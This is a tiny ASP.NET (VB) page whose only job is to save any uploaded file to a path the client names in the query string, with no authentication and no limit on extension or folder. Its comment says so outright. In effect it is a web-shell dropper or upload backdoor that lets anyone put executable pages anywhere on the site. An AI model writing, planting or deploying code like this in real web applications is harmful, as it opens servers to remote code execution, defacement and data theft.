<%@ Page Language="VB" %>
<%
' The client names the virtual path: any folder of the site, any extension.
If Request.Files.Count > 0 Then
    Request.Files(0).SaveAs(Server.MapPath(Request.QueryString(“to”)))
    Response.Write("saved")
End If
%>
